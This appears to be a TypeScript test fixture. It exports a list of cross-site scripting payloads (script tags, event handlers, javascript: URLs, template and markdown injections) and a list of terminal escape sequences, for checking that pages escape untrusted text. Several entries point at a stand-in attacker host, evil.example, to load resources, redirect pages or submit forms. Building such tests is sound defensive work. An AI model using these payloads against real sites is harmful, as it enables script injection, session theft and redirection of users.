/** The action that a hostile text attempts on the page. */
export const RUN = "window.__ran=1";

/** Texts that become markup, script, style or links on a page that does not escape them. */
export const HOSTILE = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror='${RUN}'>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</pre><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></mtext><img src=x onerror=${RUN}></math>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<iframe src="javascript:parent.__ran=1">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src="//evil.example/x.swf">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<form action=//evil.example/><button>Save</button></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\u202e<script>${RUN}</script>\u202c`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `[x](javascript:${RUN})`,
  `![x](https://evil.example/x.png)`,
  `[x]: javascript:${RUN}`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `javascript:${RUN}//`,
];

/** Sequences that a terminal obeys. */
export const ESCAPES = [
  "\x1b]8;;javascript:window.__ran=1\x07link\x1b]8;;\x07",
  "\x1b]0;title\x07",
  "\x1b[2J\x1b[H",
  "\x9b31m",
];
